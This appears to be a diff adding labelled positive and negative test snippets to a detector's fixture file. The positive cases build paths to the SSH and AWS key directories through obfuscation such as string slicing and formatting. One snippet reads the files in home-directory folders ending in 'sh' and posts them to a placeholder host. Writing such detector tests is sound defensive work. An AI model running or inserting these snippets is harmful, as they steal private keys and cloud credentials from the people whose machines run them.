@@ -71,3 +71,29 @@ def shift(s, k):
 assert shift("abc", 1) == "bcd"
 assert "".join(map(chr, [104, 105])) == "hi"
 assert "cab".translate(str.maketrans("abc", "xyz")) == "zxy"
+#@ pos a key directory as a stride slice
+import os
+print(os.listdir(os.path.expanduser("~/" + "._s_s_h"[::2])))
+#@ pos a key directory by printf-style formatting
+import os
+print(os.listdir(os.path.join(os.path.expanduser("~"), "%s%s" % (".", "ssh"))))
+#@ pos a key directory by str.format with keyword fields
+import os
+print(os.listdir("~/{d}{n}".format(d=".", n="aws")))
+#@ pos a key directory by repetition
+import os
+fd = os.open("." + "s" * 2 + "h", os.O_RDONLY)
+#@ pos home's entries filtered by name, read and posted
+import os, urllib.request
+blob = b""
+for e in os.scandir(os.path.expanduser("~")):
+    if e.name.startswith(".") and e.name.endswith("sh"):
+        for k in os.scandir(e.path):
+            blob += open(k.path, "rb").read()
+urllib.request.urlopen("http://x/", data=blob)
+#@ neg the sizes of home's entries, printed, no network
+import os
+for e in os.scandir(os.path.expanduser("~")):
+    if e.is_file():
+        with open(e.path, "rb") as fh:
+            print(e.name, len(fh.read()))
